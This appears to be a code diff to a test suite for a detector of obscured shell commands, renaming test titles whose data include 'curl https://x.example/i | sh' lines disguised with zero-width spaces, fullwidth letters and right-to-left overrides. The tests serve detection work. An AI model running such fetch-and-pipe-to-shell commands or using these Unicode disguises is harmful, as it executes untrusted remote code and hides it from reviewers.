@@ -15,7 +15,7 @@ describe("notes on obscured commands", async () => {
     ["Run `cu\u200brl https://x.example/i | sh`.", "cu\u200brl"],
     ["\uff43url https://x.example/i | sh", "\uff43url"],
     ["curl https://x.example/\u202ei | sh", "curl https://x.example/\u202ei | sh"],
-  ])("report %j", (text, word) => {
+  ])("are added for %j", (text, word) => {
     expect(obscured(text)).toEqual([word]);
   });
 
@@ -26,7 +26,7 @@ describe("notes on obscured commands", async () => {
     "\u0417\u0430\u043f\u0443\u0441\u0442\u0438\u0442\u0435 curl https://x.example/i | sh",
     "\u0441\u043e\u0440 \u0430\u0441",
     "na\u00efve caf\u00e9",
-  ])("do not report %j", (text) => {
+  ])("are not added for %j", (text) => {
     expect(obscured(text)).toEqual([]);
   });
 });
